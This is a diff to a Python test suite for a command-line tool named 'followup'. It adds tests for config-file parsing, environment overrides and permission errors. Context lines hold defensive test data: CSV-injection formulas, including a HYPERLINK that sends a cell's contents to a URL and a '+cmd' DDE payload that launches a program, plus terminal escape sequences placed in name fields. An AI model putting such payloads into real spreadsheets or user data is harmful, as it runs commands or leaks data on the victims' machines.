@@ -311,6 +311,90 @@ class CliTest(StoreTest):
         self.assertEqual(shown["days_overdue"], 3)
         self.assertEqual([h["action"] for h in shown["history"]], ["import"])
 
+class ConfigTest(unittest.TestCase):
+    """The settings file, the variables that override it and the options
+    that override both (docs/cli.md, *Configuration*)."""
+
+    def setUp(self):
+        self.tmp = tempfile.TemporaryDirectory()
+        self.db = os.path.join(self.tmp.name, "store", "followup.db")
+        self.config = self.write("followup.toml", f"""# the store of this test
+[store]
+url = "sqlite:{self.db}"
+
+[cli]
+user = "root"
+
+[workflow]
+unit_backdate_days = 9999
+""")
+
+    def tearDown(self):
+        self.tmp.cleanup()
+
+    def write(self, name, text):
+        path = os.path.join(self.tmp.name, name)
+        with open(path, "w", encoding="utf-8") as f:
+            f.write(text)
+        return path
+
+    def run_followup(self, *args, env_extra=None):
+        env = {k: v for k, v in os.environ.items() if not k.startswith("FOLLOWUP_")}
+        env.update(env_extra or {})
+        return subprocess.run([FOLLOWUP, *args], capture_output=True, env=env, cwd=self.tmp.name, timeout=60)
+
+    def test_the_file_names_the_store_and_who_acts(self):
+        r = self.run_followup("--config", self.config, "init", "--admin", "root")
+        self.assertEqual(r.returncode, 0, r.stderr.decode())
+        self.assertIn(f"store ready: sqlite:{self.db}", r.stdout.decode())
+        self.assertTrue(os.path.exists(self.db + ".key"))
+        r = self.run_followup("user", "add", "eva", "--role", "evaluation",
+                              env_extra={"FOLLOWUP_CONFIG": self.config})
+        self.assertEqual(r.returncode, 0, r.stderr.decode())
+        # The variable overrides the file, the option overrides both.
+        r = self.run_followup("--config", self.config, "user", "add", "x", "--role", "viewer",
+                              env_extra={"FOLLOWUP_USER": "eva"})
+        self.assertEqual((r.returncode, r.stderr.decode()),
+                         (1, "followup: user eva (evaluation) cannot add users: it needs the role admin\n"))
+        r = self.run_followup("--config", self.config, "--as", "root", "user", "add", "x", "--role", "viewer",
+                              env_extra={"FOLLOWUP_USER": "eva"})
+        self.assertEqual(r.returncode, 0, r.stderr.decode())
+        r = self.run_followup("--config", self.config, "--db", "sqlite:" + os.path.join(self.tmp.name, "other.db"),
+                              "list")
+        self.assertEqual(r.returncode, 3)
+        self.assertIn("no store at", r.stderr.decode())
+
+    def test_a_mistake_in_the_file_names_file_line_and_key(self):
+        cases = [
+            ("[store]\nurll = \"sqlite:x.db\"\n", "bad.toml:2: unknown setting store.urll"),
+            ("[workflow]\n\nunit_backdate_days = 10000\n",
+             "bad.toml:3: workflow.unit_backdate_days 10000 is too large (at most 9999)"),
+            ("[evidence]\nmax_bytes = \"big\"\n", "bad.toml:2: evidence.max_bytes must be a whole number"),
+            ("[evidence]\ntypes = [\"text/plain\", 1]\n", "bad.toml:2: evidence.types must be an array of strings"),
+        ]
+        for text, message in cases:
+            with self.subTest(message=message):
+                self.write("bad.toml", text)
+                for how in (("--config", "bad.toml", "list"), ("list",)):
+                    r = self.run_followup(*how, env_extra={"FOLLOWUP_CONFIG": "bad.toml"})
+                    self.assertEqual((r.returncode, r.stderr.decode(), r.stdout), (1, message + "\n", b""))
+        self.write("bad.toml", "[store]\nurl = \n")
+        r = self.run_followup("--config", "bad.toml", "list")
+        self.assertEqual(r.returncode, 1)
+        self.assertTrue(r.stderr.decode().startswith("bad.toml:2: "), r.stderr.decode())
+        r = self.run_followup("--config", "missing.toml", "list")
+        self.assertEqual((r.returncode, r.stderr.decode()),
+                         (1, "followup: cannot read 'missing.toml': No such file or directory\n"))
+
+    def test_a_variable_overrides_a_number_in_the_file(self):
+        self.run_followup("--config", self.config, "init", "--admin", "root")
+        r = self.run_followup("--config", self.config, "list", env_extra={"FOLLOWUP_UNIT_BACKDATE_DAYS": "abc"})
+        self.assertEqual((r.returncode, r.stderr.decode()),
+                         (1, "followup: FOLLOWUP_UNIT_BACKDATE_DAYS 'abc' is not a whole number (digits 0-9 only)\n"))
+        r = self.run_followup("--config", self.config, "list", env_extra={"FOLLOWUP_UNIT_BACKDATE_DAYS": "3"})
+        self.assertEqual((r.returncode, r.stdout.decode()), (0, "no recommendations match\n"))
+
+
 # What a spreadsheet would run, as OWASP's CSV-injection page lists it.
 FORMULAS = ['=HYPERLINK("http://x?x="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1",
             " =1", "\uff1d1+1", "\uff20SUM(1)"]
@@ -504,8 +588,8 @@ class WorkflowTest(unittest.TestCase):
               "--as-of", "2001-10-20"),
              "followup: --waive-evidence contains a control character (U+007F) at byte 0\n"),
             (("mprp", "respond", "PLACMI-2#1", "--file", bell),
-             f"followup: {bell}: rationale contains a control character (U+0007) at byte 3\n"),
-            (("mprp", "respond", "PLACMI-2#1", "--file", deep), f"followup: {deep}: nested deeper than 64 levels\n"),
+             f"{bell}: rationale contains a control character (U+0007) at byte 3\n"),
+            (("mprp", "respond", "PLACMI-2#1", "--file", deep), f"{deep}: nested deeper than 64 levels\n"),
             (("root", "user", "add", "x", "--role", "viewer", "--full-name", "X\x1b]0;owned\x07"),
              "followup: full name contains a control character (U+001B) at byte 1\n"),
             (("eva", "unit", "add", "FIN", "--name", "Fin\x1b[8m"),
